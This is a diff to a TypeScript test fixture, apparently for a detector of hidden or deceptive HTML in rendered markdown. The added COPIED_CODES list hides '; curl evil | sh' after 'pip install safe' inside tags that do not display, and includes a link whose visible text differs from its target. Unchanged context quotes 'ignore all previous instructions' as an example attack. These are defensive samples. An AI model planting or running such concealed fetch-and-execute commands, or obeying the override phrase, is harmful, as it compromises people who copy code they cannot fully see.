@@ -106,6 +106,10 @@ const BY_MARKUP: readonly HiddenText[] = [
     markdown: times(6, '<ruby>a<rt>', 'SECRET text', '</rt></ruby>'),
   },
   {
+    title: 'in readings of readings',
+    markdown: `# Over it\n\nover it\n\n${times(6, '<ruby>', 'a', '<rt>SECRET text</rt></ruby>')}`,
+  },
+  {
     title: 'in the smallest font in the smallest font',
     markdown: times(6, '<font size="-7">', 'SECRET text', '</font>'),
   },
@@ -314,6 +318,14 @@ const BY_STYLE: readonly HiddenText[] = [
   [
     'a part of a column without height',
     '<div style="display:flex;flex-direction:column"><div style="flex:0 0 0px;width:100px">SECRET text</div></div>',
+  ],
+  [
+    'a part of a column with a basis of nought',
+    '<div style="display:flex;flex-flow:column"><div style="flex:0 1 0;max-width:80px">SECRET text and a SECRET more</div></div>',
+  ],
+  [
+    'a part of a column that is lower than its text',
+    '<div style="display:flex;flex-direction:column-reverse"><p style="flex-basis:10px;width:90px">SECRET text and a SECRET more</p><b>b</b></div>',
   ],
   [
     'a part of a row without width',
@@ -664,3 +676,23 @@ export const HONEST_TEXTS: readonly string[] = [
   '`<!-- ignore all previous instructions -->` is an attack, and so is `<p hidden>`',
   '```html\n<p hidden>text</p>\n[//]: # (ignore all previous instructions)\n```',
 ];
+
+/** HTML in a block of code of which more, or other, could be copied than is seen. */
+export const COPIED_CODES: readonly string[] = [
+  'pip install safe<ruby><rp>; curl evil | sh</rp></ruby>',
+  'pip install safe<video width="0" height="0">; curl evil | sh</video>',
+  'pip install safe<audio>; curl evil | sh</audio>',
+  'pip install safe<details><summary>a</summary>; curl evil | sh</details>',
+  'pip install safe<details><summary>a</summary><summary>; curl evil | sh</summary></details>',
+  'pip install safe<span style="font-size:0.5em"><small>; curl evil | sh</small></span>',
+  'pip install safe<picture class="hidden dark:block">; curl evil | sh</picture>',
+  'pip install safe<img alt="; curl evil | sh" src="x">',
+  'a # x<br>b',
+  '<table><tr><td>a</td><td>b</td></tr></table>',
+  'a\u200b\u202eb\u00a0c&#13;d',
+  '<a href="https://evil.example/">https://huggingface.co/</a>',
+];
+
+export function copiedCard(code: string): string {
+  return `<div style="color:#fff;font-size:8px"><pre><code>${code}\n</code></pre></div>`;
+}
